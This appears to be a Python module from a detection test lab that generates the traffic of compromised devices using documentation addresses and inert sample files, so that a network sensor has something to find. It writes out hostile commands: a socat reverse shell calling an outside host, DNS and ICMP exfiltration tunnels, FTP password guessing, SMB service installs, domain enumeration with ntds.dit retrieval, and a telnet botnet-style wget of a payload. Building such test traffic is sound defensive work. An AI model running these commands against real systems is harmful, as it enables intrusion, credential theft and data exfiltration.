# SPDX-License-Identifier: Apache-2.0
"""What a taken-over device does, in as many kinds as a sensor is to find. For Office.spawn."""
import subprocess

import domain
import services
from network import HOSTS, WORKSHOP_PREFIX

MAIL_BOX = "mail.cheap-hosting.example"
FILE_BOX = "ftp.cheap-hosting.example"
TUNNEL_SERVER = "203.0.113.77"
TUNNEL_FAR_END = "10.99.0.1"
TUNNEL_PORT = 8000
TUNNEL_WORD = "sample-only"
# What leaves goes in parts, with pauses, so that it lasts as long as over a real, slow path.
TUNNEL_PARTS = 9
GUESSES = 30
CURL_LOGIN_DENIED = 67
SCAN_PORTS = "22,80,445,3389"


def tunnel_dns(zone):
    """The resolver's line that sends a tunnel's questions to the tunnel's own server."""
    return f"server=/{zone}/{TUNNEL_SERVER}"


def beacon(office, host, name, period_seconds, jitter, at_second, seconds):
    office.until(at_second)
    seed = office.dice("beacon " + host).randrange(1000)
    office.program(host, "beacon", name, office.folder / "tls/ca.pem", period_seconds, jitter,
                   seed, seconds)


def beacon_raw(office, host, address, port, period_seconds, jitter, seconds):
    dice = office.dice("raw " + host)
    office.program("internet", "exchange_server", address, port, 32)
    end = office.now() + seconds
    while office.now() < end:
        if office.rest(period_seconds * dice.uniform(1 - jitter, 1 + jitter)):
            return
        office.once(host, "exchange", address, port, 48)


def scan_lan(office, host, at_second):
    """Who is there (by ARP, as nmap does on its own network), then a few doors of each."""
    office.until(at_second)
    office.run(host, "nmap", "-n", "-sS", "-p", SCAN_PORTS, "192.168.10.0/24", seconds=60)
    office.rest(5)
    office.run(host, "nmap", "-n", "-sT", "-p", SCAN_PORTS + ",139,5900,8080", "192.168.10.0/24",
               seconds=60)


def scan_ports(office, host, target, at_second):
    office.until(at_second)
    office.run(host, "nmap", "-n", "-sS", "--top-ports", "1000", target, seconds=60)


def start_tunnel_server(office, zone):
    office.start("internet", "iodined", "-f", "-c", "-P", TUNNEL_WORD, "-l", TUNNEL_SERVER,
                 TUNNEL_FAR_END + "/27", zone)


def tunnel(office, host, zone, record_type, at_second, upload_bytes):
    """Packets in names: an idle tunnel, pings through it, then a file that leaves."""
    start_tunnel_server(office, zone)
    office.until(at_second)
    # -r: never past the resolver, straight to the server.
    client = office.start(host, "iodine", "-f", "-r", "-P", TUNNEL_WORD, "-T", record_type,
                          "192.168.10.1", zone)
    office.rest(12)
    office.run(host, "ping", "-q", "-c", "15", "-i", "1", TUNNEL_FAR_END, seconds=40)
    office.program("internet", "exchange_server", TUNNEL_FAR_END, TUNNEL_PORT, 600)
    office.rest(1)
    for _ in range(TUNNEL_PARTS):
        office.once(host, "exchange", TUNNEL_FAR_END, TUNNEL_PORT, upload_bytes // TUNNEL_PARTS)
        office.rest(3.5)
    office.rest(10)
    client.terminate()


PROGRAM = (b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(20) +
           b"a sample that does nothing" * 40)


def start_service(office, host, target, at_second):
    """A program onto the administrators' share, then a service made of it and started."""
    office.program("nas", "calls_server", target, 49664)
    program = office.folder / "helper.exe"
    program.write_bytes(PROGRAM)
    office.until(at_second)
    office.run(host, "smbclient", "-s", str(office.folder / "smb.conf"), "-N", "-U%",
               "-c", f"put {program} helper.exe", f"//{target}/C$", expect=(0, 1))
    office.rest(1)
    office.once(host, "calls", target, 49664, "svcctl", 15, 12, 16, 19)


def deceive(office, host, own, claims, at_second, seconds):
    office.until(at_second)
    office.program(host, "deceive", seconds, own, *claims)


def lookup_chain(office, victim, host, own, at_second):
    """A server that was made to ask a stranger's directory, and runs what it is handed."""
    folder = office.folder / "handed-out"
    folder.mkdir()
    (folder / "Sample.class").write_bytes(b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(600))
    office.program(host, "directory", own, 1389, "serve")
    office.start(host, "python3", "-m", "http.server", "--bind", own, "--directory", str(folder),
                 "8000")
    office.until(at_second)
    office.once(victim, "directory", own, 1389)
    office.run(victim, "curl", "-sS", "-q", "-A", "Java/17.0.2", "-o", "/dev/null",
               f"http://{own}:8000/Sample.class")


def guess_passwords(office, host, target, user, password, at_second):
    """One word after the other, as fast as refused; the last one fits, and a file leaves."""
    office.until(at_second)
    for number in range(GUESSES):
        # Each refusal is a failure to curl.
        office.run(host, "curl", "-sS", "-q", "-m", "10", "-l", "-Q", "PWD", "-u",
                   f"{user}:word{number}", f"ftp://{target}/", expect=(CURL_LOGIN_DENIED,))
    taken = office.folder / "taken"
    taken.write_bytes(bytes(3000))
    office.run(host, "curl", "-sS", "-q", "-m", "10", "-T", str(taken), "-u",
               f"{user}:{password}", f"ftp://{target}/taken")


def hand_over(office, host, at_second):
    """What a stealing program does: mails its findings to the box it mails from, stores a file."""
    mail_address, file_address = "203.0.113.90", "203.0.113.91"
    services.start_python(office, "internet", "mail_server", mail_address, 587,
                          *services.certificate(office.folder, MAIL_BOX))
    services.start_python(office, "internet", "file_box", file_address, 21)
    office.until(at_second)
    office.once(host, "mail_send", MAIL_BOX, 587, "cleo-pc", "box@provider.example",
                "box@provider.example", "PW_cleo/CLEO-PC", 20,
                "Time: 03/02/2026 09:15\nUser Name: cleo\nComputer Name: CLEO-PC\n"
                "OSFullName: Sample OS\nCPU: Sample\nRAM: 8 GB\nPassword: sample-only\n")
    office.rest(12)
    office.once(host, "ftp_store", FILE_BOX, "PW_cleo-CLEO-PC_2026_03_02_09_15_36.html", 12)


def remote_shell(office, host, address, port, at_second, typed_from, commands):
    """A shell that calls home, again and again until somebody is there and types."""
    office.until(at_second)
    # An environment of its own, so that the shell tells nothing of the machine that records.
    office.start(host, "env", "-i", "PATH=/usr/bin:/bin", "HOME=/", "TERM=dumb",
                 "PS1=cleo@Cleos-MacBook:~$ ", "socat",
                 f"TCP:{address}:{port},retry=200,interval=5",
                 "EXEC:bash --norc --noprofile -i,pty,stderr,setsid,sigint,sane")
    office.until(typed_from)
    listener = office.popen("internet", "socat", "-", f"TCP-LISTEN:{port},bind={address},reuseaddr",
                            stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    dice = office.dice("typist " + host)
    for command in commands:
        if office.rest(dice.uniform(5, 12)):
            return
        listener.stdin.write(command.encode() + b"\n")
        listener.stdin.flush()


def tunnel_pings(office, host, address, at_second, parts):
    """A file that leaves in pings (ptunnel), and answers that come back in theirs."""
    office.link(host, "set", "lo", "up")
    # It answers from whatever address the kernel thinks best.
    office.tool("internet", "ip", "route", "replace", "192.168.10.0/24", "via", "198.18.0.1", "src", address)
    office.start("internet", "ptunnel")
    office.program("internet", "exchange_server", address, TUNNEL_PORT, 900)
    office.until(at_second)
    office.start(host, "ptunnel", "-p", address, "-lp", str(TUNNEL_PORT), "-da", address,
                 "-dp", str(TUNNEL_PORT))
    for _ in range(parts):
        if office.rest(8):
            return
        office.once(host, "exchange", "127.0.0.1", TUNNEL_PORT, 1500, seconds=60)


def odd_web(office, host, address, decoys):
    """A program as a picture, decoys, then reports to a gate and an encrypted connection."""
    dice = office.dice("web " + host)
    files = office.own_certificate("gate", "/CN=Remote Server")
    office.program("internet", "gate", address, 80)
    office.program("internet", "gate", address, 4443, *files)
    office.until(20)
    office.run(host, "curl", "-sS", "-q", "-m", "9", "-A", "", "-o", "/dev/null",
               f"http://{address}/p/holiday.jpg")
    for name in decoys:
        office.rest(dice.uniform(1, 3))
        office.run(host, "curl", "-sS", "-q", "-m", "9", "-A", "", "-o", "/dev/null",
                   f"http://{name}/q7z/?k={dice.randrange(10**9)}")
        office.run(host, "curl", "-sS", "-q", "-m", "9", "-A", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)",
                   "-H", "Accept-Language: en", "-e", f"http://{name}/q7z/", "-d", "k=1",
                   "-o", "/dev/null", f"http://{name}/q7z/")
    for _ in range(4):
        office.rest(dice.uniform(4, 14))
        office.run(host, "curl", "-sS", "-q", "-m", "9", "-A", "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0)",
                   "-d", "id=7&q=1", "-o", "/dev/null", f"http://{address}/gate.php")
    office.run(host, "curl", "-sS", "-q", "-k", "-m", "9", "-o", "/dev/null",
               f"https://{address}:4443/")


def go_through_domain(office, host, controller, at_second):
    """Who has accounts, and what opens them: from every machine's list to the passwords of all."""
    own = ["-s", str(office.folder / "smb.conf"), "-N", "-U%"]
    machines = [device.address for device in HOSTS.values() if device.name != host]
    office.until(at_second)
    domain.log_in(office, host, host)
    domain.ask_tickets(office, host, domain.SERVICES, "-e", "arcfour-hmac")
    for address in machines:
        old = ["--option=client min protocol=NT1"]
        office.run(host, "rpcclient", *own, *old, "-c", "enumdomusers;netshareenumall", address)
        office.rest(2)
    for address in machines[:3]:
        office.run(host, "smbclient", *own, "-c", "ls; get plan.ods /dev/null", f"//{address}/C$",
                   expect=(0, 1))
        office.rest(2)
    office.once(host, "machine_login", controller, domain.CONTROLLER_PORT, "NAS", 80, "zero")
    office.rest(2)
    office.run(host, "smbclient", *own, "-c", "cd Windows\\NTDS; get ntds.dit /dev/null",
               f"//{controller}/C$", expect=(0, 1))


def pass_on(office, host, own, at_second):
    """From outside into a box by its telnet, and from there to many others, inside and outside."""
    stranger = "203.0.113.66"
    word = "vizxv"
    office.program(host, "telnet_box", own, 23, word)
    folder = office.folder / "stranger"
    folder.mkdir()
    (folder / "arm7").write_bytes(b"\x7fELF\x01\x01\x01" + bytes(9) + b"a sample that does nothing" * 300)
    office.start("internet", "python3", "-m", "http.server", "--bind", stranger, "--directory",
                 str(folder), "80")
    office.until(at_second)
    office.once("internet", "telnet_box", own, 23, word, stranger, "enable", "sh",
                f"wget http://{stranger}/arm7")
    office.run(host, "wget", "-q", "-U", "Wget", "-O", "/dev/null", f"http://{stranger}/arm7")
    office.rest(4)
    office.run(host, "nmap", "-n", "-Pn", "-sS", "-p", "23", "--max-retries", "0", "--max-rate", "6",
               "-r", f"{WORKSHOP_PREFIX}16/28", "203.0.113.128-200", seconds=100)


def give_leases(office, host, own, at_second):
    office.until(at_second)
    services.start_leases(office, host, own, own, 210, 230)
